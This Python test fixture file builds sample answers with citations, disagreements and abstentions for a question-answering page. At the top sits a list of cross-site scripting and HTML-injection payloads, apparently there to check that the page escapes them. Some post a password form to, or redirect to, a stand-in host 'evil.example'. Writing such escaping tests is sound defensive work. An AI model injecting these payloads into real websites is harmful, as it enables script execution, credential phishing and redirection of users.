"""Hand-made answers for the tests of the page."""

import hashlib
from dataclasses import replace

from nkqa.types import (
    Abstention,
    Answer,
    AnswerSentence,
    AsOf,
    Citation,
    CorpusInfo,
    Disagreement,
    Locator,
    Position,
    ShortAnswer,
    SourceInfo,
)

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    '"><form action=//evil.example><input type=password></form>',
    "<iframe src=javascript:window.pwned=1></iframe>",
    "</pre></details></article><script>window.pwned=1</script>",
    "<a href=javascript:window.pwned=1>click</a>",
    "![x](http://evil.example/p.png)",
    "\n\n<script>window.pwned=1</script>\n\n",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "' autofocus onfocus=window.pwned=1 x='",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "<style>*{display:none}</style>",
)
CORPUS = CorpusInfo("abcdef0123456789", 2, "2011-05-03", "2011-06-30")


def source(id: str = "gazette", **given: str | None) -> SourceInfo:
    made = SourceInfo(
        id, "article-newspaper", "After the Lake Truce", ("Ada Marlow",), "The Valley Gazette", "2011-05-03",
        "https://gazette.example/lake", "newsroom",
    )  # fmt: skip
    return replace(made, **given)  # type: ignore[arg-type]


def citation(
    number: int, quote: str, of: SourceInfo | None = None, label: str = "The truce, para. 1"
) -> Citation:
    of = of or source()
    locator = Locator("paragraph", label, of.URL, "The truce", paragraph=1)
    digest = hashlib.sha256(quote.encode()).hexdigest()
    return Citation(number, f"{of.id}-0", of.id, 0, quote, 10, 10 + len(quote), digest, of, locator)


REPORT = source(
    "report", type="report", title="Water & Peace", publisher="Institute of Lakes", issued="2011-06-30",
    URL="https://lakes.example/papers/7.pdf", perspective="outside-analyst",
)  # fmt: skip
WARDENS = "About 400 wardens from Westland will watch the Lake Truce for 3 years."
HANDOVER = "Southland must leave the village of Oldmill by 20 June 2011."
LATER = "The village of Oldmill (Starimlin) is to be handed over by the end of July 2011."


def answered(question: str = "How many wardens?", quote: str = WARDENS) -> Answer:
    cited = citation(1, quote)
    start = quote.find("400")
    short = ShortAnswer("400", 0, start, start + 3) if start >= 0 else None
    return Answer(
        "a1", question, question, "answered", f"{quote} [1]", short, (AnswerSentence(quote, (1,), 0.9),),
        (cited,), (), AsOf("2011-05-03", "2011-05-03"), 0.9, None, (), CORPUS,
    )  # fmt: skip


def differing() -> Answer:
    cited = (citation(1, HANDOVER), citation(2, LATER, REPORT, "p. 5"))
    sentences = (AnswerSentence(HANDOVER, (1,), 0.9), AnswerSentence(LATER, (2,), 0.8))
    found = Disagreement(
        "when Oldmill is handed over",
        (
            Position("20 June 2011", (1,), ("20 June 2011",)),
            Position("July 2011", (2,), ("July 2011",)),
        ),
    )
    return replace(
        answered("When is Oldmill handed over?"), answer=f"{HANDOVER} [1] {LATER} [2]", short_answer=None,
        sentences=sentences, citations=cited, disagreements=(found,), as_of=AsOf("2011-05-03", "2011-06-30"),
        suggestions=("Who fled?",),
    )  # fmt: skip


def abstained() -> Answer:
    none = Abstention("after_corpus", "The sources end in June 2011.", (citation(1, HANDOVER),))
    return replace(
        answered("Who won in 2015?"), status="abstained", answer="The sources do not answer this question.",
        short_answer=None, sentences=(), citations=(), as_of=None, abstention=none,
        suggestions=("Who fled?",),
    )  # fmt: skip
